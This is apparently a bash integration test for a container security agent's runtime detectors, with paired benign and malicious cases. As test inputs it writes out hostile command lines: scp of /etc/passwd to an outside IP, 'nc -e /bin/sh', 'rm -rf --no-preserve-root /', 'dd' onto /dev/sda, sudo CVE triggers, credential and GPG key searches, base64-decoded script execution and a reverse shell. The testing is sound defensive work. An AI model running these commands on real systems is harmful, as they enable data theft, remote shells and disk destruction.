#!/bin/bash
# test_detectors.sh - the catalogue's runtime detectors beside the escape-tool
# ones (docs/detectors.md), each with a positive and a negative case in real
# runc containers: compiler, remote file copy, steganography, credential,
# Google Cloud credential and GPG key searches, the two sudo CVEs, bulk
# wiping, destructive command lines, netcat running a program, fileless
# execution from a memfd and from /dev/shm; a reverse shell, commands run over
# it, a shell under socat and one under a web server (Unexpected Child Shell);
# base64 payloads in arguments (an ELF, a shell script, a python program);
# and exceptions by container name. The programs are harmless stand-ins under the
# tools' names (busybox's applets where it has them): only the name and the
# arguments decide, as in the reference's definitions.
source "$(dirname "$0")/lib.sh"
live_init
OUT=$LIVE_DIR/findings.jsonl
jqt() { jq -e "$@" >/dev/null 2>&1; }
# /dev/shm without noexec (runc's and Docker's default is noexec; a Kubernetes
# emptyDir of medium Memory is not)
SHM='.mounts |= map(if .destination == "/dev/shm" then .options -= ["noexec"] else . end)'
check "a container" start_container cw-det "" '{}' "$SHM"
check "a build container" start_container cw-det-build "" '{}' "$SHM"
R=$LIVE_DIR/bundles/cw-det/rootfs
for n in gcc scp steghide sudo sudoedit shred rm dd nc grep find gpg; do
	cp "$LIVE_DIR/harmless" "$R/opt/$n"
	cp "$LIVE_DIR/harmless" "$LIVE_DIR/bundles/cw-det-build/rootfs/opt/$n"
done
cc -O2 -static -o "$R/opt/memfd_exec" "$LIVE_ROOT/tests/live/memfd_exec.c" || not_ok "build memfd_exec"
cp "$R/opt/memfd_exec" "$LIVE_DIR/bundles/cw-det-build/rootfs/opt/"
echo '{"exceptions": [{"rules": ["tool.compiler.*", "technique.fileless.dev_shm"], "names": ["cw-det-build"], "comment": "builds"}]}' >"$LIVE_DIR/exc.json"
check "agent starts" start_agent "$OUT" --technique-exceptions "$LIVE_DIR/exc.json"
run() { cexec "${2:-cw-det}" "$LIVE_DIR/x.pid" sh -c "$1" >/dev/null 2>&1; }

# expect CATEGORY SEVERITY MODULE KEY CMD: CMD in the container gives that
# finding (the one whose arguments contain KEY)
expect() {
	local cat=$1 sev=$2 mod=$3 key=$4 cmd=$5 f
	run "$cmd"
	f=$(wait_finding "$OUT" ".category == \"$cat\" and (.processes[0].args | tostring | contains($(jq -Rn --arg c "$key" '$c')))")
	check "$cat: \`$cmd\` ($sev)" jqt --arg s "$sev" --arg m "$mod" \
		'.severity == $s and .moduleName == $m and (.mitreAttack.primaryTechniques | length > 0) and .sourceProperties.Container_Id == "cw-det"' <<<"${f:-null}"
}

# benign first: none of these may give a finding
run 'ls / >/dev/null; cat /etc/passwd >/dev/null; grep root /etc/group; /opt/grep -r TODO /etc; find /etc -name passwd; /opt/find /etc -name "*.conf"; rm -rf /tmp/none; dd if=/dev/zero of=/tmp/f bs=1k count=1; /opt/sudo -u root true; /opt/sudoedit /etc/motd; /opt/nc -z 127.0.0.1 80; /opt/dd if=/dev/zero of=/tmp/g count=1; /opt/rm -rf /tmp/none; /opt/gpg --verify x.sig'
sleep 1
check "benign commands give no finding ($(jq -r .category "$OUT" 2>/dev/null | sort -u | tr '\n' ','))" \
	test "$(jq -s length "$OUT")" = 0

expect "Defense Evasion: Launch Code Compiler Tool In Container" LOW LAUNCH_CODE_COMPILER_TOOL_IN_CONTAINER exploit.c '/opt/gcc -c exploit.c'
expect "Exfiltration: Launch Remote File Copy Tools in Container" LOW LAUNCH_REMOTE_FILE_COPY_TOOLS_IN_CONTAINER /tmp/loot '/opt/scp /etc/passwd u@203.0.113.9:/tmp/loot'
expect "Command and Control: Steganography Tool Detected" CRITICAL STEGANOGRAPHY_TOOL_DETECTED secrets.txt '/opt/steghide embed -cf cat.jpg -ef secrets.txt'
expect "Credential Access: Search Private Keys or Passwords" LOW SEARCH_PRIVATE_KEYS_OR_PASSWORDS "RSA PRIVATE" '/opt/grep -rl "BEGIN RSA PRIVATE KEY" /etc'
expect "Credential Access: Search Private Keys or Passwords" LOW SEARCH_PRIVATE_KEYS_OR_PASSWORDS "id_rsa" 'busybox find / -name id_rsa'
expect "Credential Access: Find Google Cloud Credentials" LOW FIND_GCP_CREDENTIALS application_default '/opt/find / -name application_default_credentials.json'
expect "Credential Access: GPG Key Reconnaissance" CRITICAL GPG_KEY_RECONNAISSANCE gnupg '/opt/find / -path "*.gnupg*"'
expect "Credential Access: GPG Key Reconnaissance" CRITICAL GPG_KEY_RECONNAISSANCE list-secret '/opt/gpg --list-secret-keys'
expect "Privilege Escalation: Abuse of Sudo For Privilege Escalation (CVE-2019-14287)" CRITICAL ABUSE_SUDO_FOR_PRIVILEGE_ESCALATION "#-1" '/opt/sudo -u#-1 /bin/id'
expect "Privilege Escalation: Sudo Potential Privilege Escalation (CVE-2021-3156)" CRITICAL SUDO_POTENTIAL_PRIVILEGE_ESCALATION AAAA '/opt/sudoedit -s AAAA\\'
expect "Impact: Remove Bulk Data From Disk" LOW REMOVE_BULK_DATA_FROM_DISK "/tmp/f" '/opt/shred -u /tmp/f'
expect "Impact: Detect Malicious Cmdlines" CRITICAL DETECT_MALICIOUS_CMDLINES no-preserve-root '/opt/rm -rf --no-preserve-root /'
expect "Impact: Detect Malicious Cmdlines" CRITICAL DETECT_MALICIOUS_CMDLINES "of=/dev/sda" '/opt/dd if=/dev/zero of=/dev/sda'
expect "Execution: Netcat Remote Code Execution in Container" LOW NETCAT_REMOTE_CODE_EXECUTION_IN_CONTAINER 203.0.113.9 '/opt/nc -e /bin/sh 203.0.113.9'

# fileless: a memfd and /dev/shm (the same harmless program from /tmp is silent)
run 'cp /opt/gcc /tmp/plain && /tmp/plain; cp /opt/gcc /dev/shm/stage && /dev/shm/stage; /opt/memfd_exec /opt/scp x'
f=$(wait_finding "$OUT" '.category == "Privilege Escalation: Fileless Execution in /dev/shm"')
check "Fileless Execution in /dev/shm (HIGH, /dev/shm/stage)" jqt '.severity == "HIGH" and .moduleName == "FILELESS_EXECUTION_DETECTION_SHM" and .processes[0].binary.path == "/dev/shm/stage" and .sourceProperties.Rule_Id == "technique.fileless.dev_shm"' <<<"${f:-null}"
f=$(wait_finding "$OUT" '.category == "Execution: Fileless Execution in /memfd:"')
check "Fileless Execution in /memfd: (HIGH, $(jq -r .processes[0].binary.path <<<"${f:-null}"))" jqt '.severity == "HIGH" and (.processes[0].binary.path | startswith("/memfd:"))' <<<"${f:-null}"
check "a program run from /tmp is no fileless finding" \
	test -z "$(jq -c 'select(.processes[0].binary.path == "/tmp/plain")' "$OUT")"

# base64 payloads in arguments: an ELF (any program: the kernel sends long
# argument areas even for a known-clean file), a shell script, a python program
cp "$LIVE_DIR/harmless" "$R/opt/printer"
cp "$LIVE_DIR/harmless" "$R/opt/python3"
run '/opt/printer warm; /opt/printer warm' # known clean from now on
ELF64=$(head -c 600 /bin/busybox | base64 -w0)
ZERO64=$(head -c 600 /dev/zero | base64 -w0)
run "/opt/printer $ZERO64; sh -c 'echo aGk= | base64 -d'; /opt/python3 -c 'print(1)'; /opt/python3 -c 'import base64; print(base64.b64decode(\"aGk=\"))'"
sleep 1
check "long arguments, base64 without a payload, plain python: no finding" \
	test -z "$(jq -c 'select(.category | test("Base64"))' "$OUT")"
cexec cw-det "$LIVE_DIR/x.pid" /opt/printer "$ELF64" >/dev/null
f=$(wait_finding "$OUT" '.category == "Defense Evasion: Base64 ELF File Command Line" and .processes[0].binary.path == "/opt/printer"')
check "Base64 ELF File Command Line (MEDIUM): a known-clean program with an ELF in its arguments" \
	jqt '.severity == "MEDIUM" and .moduleName == "BASE64_ELF_FILE_CMDLINE" and .processes[0].binary.path == "/opt/printer"' <<<"${f:-null}"
# (directly: busybox's sh runs a nested `sh -c` in-process, without an exec)
cexec cw-det "$LIVE_DIR/x.pid" sh -c 'echo ZWNobyBoaQ== | base64 -d | sh' >/dev/null
f=$(wait_finding "$OUT" '.category == "Defense Evasion: Base64 Encoded Shell Script Executed"')
check "Base64 Encoded Shell Script Executed (MEDIUM)" \
	jqt '.moduleName == "BASE64_ENCODED_SHELL_SCRIPT_EXECUTED" and .sourceProperties.Rule_Id == "technique.base64.shell"' <<<"${f:-null}"
run "/opt/python3 -c 'import base64; exec(base64.b64decode(\"cHJpbnQoMSk=\"))'"
f=$(wait_finding "$OUT" '.category == "Defense Evasion: Base64 Encoded Python Script Executed"')
check "Base64 Encoded Python Script Executed (MEDIUM)" \
	jqt '.moduleName == "BASE64_ENCODED_PYTHON_SCRIPT_EXECUTED" and .processes[0].binary.path == "/opt/python3"' <<<"${f:-null}"

# shells and commands on network sockets, shells under servers and socat: a
# container on the host's network connects to a listener on 127.0.0.1 that
# sends it commands (busybox nc -e hands the shell the socket as stdio)
check "a container on the host's network" start_container cw-det-net "" '{}' \
	'.linux.namespaces |= map(select(.type != "network"))'
N=$LIVE_DIR/bundles/cw-det-net/rootfs
cc -O2 -static -o "$N/opt/nginx" "$LIVE_ROOT/tests/live/spawn.c" || not_ok "build spawn"
cp "$N/opt/nginx" "$N/opt/socat"
cp "$N/opt/nginx" "$N/opt/myapp"
PORT=$((20000 + RANDOM % 20000))
timeout 20 python3 -c '
import socket, sys
s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("127.0.0.1", int(sys.argv[1]))); s.listen(1)
c, _ = s.accept(); c.sendall(b"/opt/harmless remote-cmd\nexit\n"); c.recv(4096); c.close()' "$PORT" &
LPID=$!
sleep 0.3
# benign: a shell on a pipe, a shell under a program not on the list, a
# command whose stdout is a pipe
run 'echo true | sh; /opt/myapp /bin/sh -c true; ls / | cat >/dev/null' cw-det-net
# benign: a web server serving (busybox httpd, 127.0.0.1 only, a static page)
WPORT=$((PORT + 1))
mkdir -p "$N/tmp/www" && echo served >"$N/tmp/www/index.html"
run "busybox httpd -p 127.0.0.1:$WPORT -h /tmp/www" cw-det-net
check "a web server in the container serves" test "$(curl -s --max-time 5 "http://127.0.0.1:$WPORT/index.html")" = served
run 'busybox pkill httpd; busybox killall httpd' cw-det-net
run "busybox nc 127.0.0.1 $PORT -e /bin/sh" cw-det-net
wait "$LPID"
f=$(wait_finding "$OUT" '.category == "Reverse Shell"')
check "Reverse Shell (CRITICAL): sh with stdin on a socket to 127.0.0.1:$PORT" \
	jqt --argjson p "$PORT" '.severity == "CRITICAL" and .moduleName == "REVERSE_SHELL" and .sourceProperties.Reverse_Shell_Stdin_Redirection_Dst_Ip == "127.0.0.1" and .sourceProperties.Reverse_Shell_Stdin_Redirection_Dst_Port == $p and .sourceProperties.Container_Id == "cw-det-net"' <<<"${f:-null}"
f=$(wait_finding "$OUT" '.category == "Execution: Possible Remote Command Execution Detected"')
check "Possible Remote Command Execution (MEDIUM): a command run over the socket" \
	jqt '.severity == "MEDIUM" and (.processes[0].args | index("remote-cmd")) and .sourceProperties.Rule_Id == "technique.remote_command.socket_stdio"' <<<"${f:-null}"
run '/opt/socat /bin/sh -c true; /opt/nginx /bin/sh -c "echo x"' cw-det-net
f=$(wait_finding "$OUT" '.category == "Execution: Socat Reverse Shell Detected"')
check "Socat Reverse Shell (MEDIUM): a shell under socat" \
	jqt '.severity == "MEDIUM" and .moduleName == "SOCAT_REVERSE_SHELL_DETECTED"' <<<"${f:-null}"
f=$(wait_finding "$OUT" '.category == "Unexpected Child Shell"')
check "Unexpected Child Shell (CRITICAL): a shell under nginx" \
	jqt '.severity == "CRITICAL" and .moduleName == "UNEXPECTED_CHILD_SHELL" and (.processes[0].args | index("echo x"))' <<<"${f:-null}"
check "a shell on a pipe, under another program, piped commands, a web server serving give no finding" \
	test "$(jq -s '[.[] | select(.sourceProperties.Container_Id == "cw-det-net" and (.category | test("Shell|Remote Command")))] | length' "$OUT")" = 4

# the exception: a compiler in the build container is excepted, elsewhere not
run '/opt/gcc -c build.c' cw-det-build
run '/opt/scp a u@203.0.113.9:b' cw-det-build
run 'cp /opt/gcc /dev/shm/b && /dev/shm/b' cw-det-build
check "the build container's scp is still reported" \
	test -n "$(wait_finding "$OUT" '.sourceProperties.Container_Id == "cw-det-build" and .category == "Exfiltration: Launch Remote File Copy Tools in Container"')"
check "... and its compiler and /dev/shm exec are excepted (by container name)" \
	test -z "$(jq -c 'select(.sourceProperties.Container_Id == "cw-det-build" and (.category | test("Compiler|Fileless")))' "$OUT")"
stop_agent
live_done
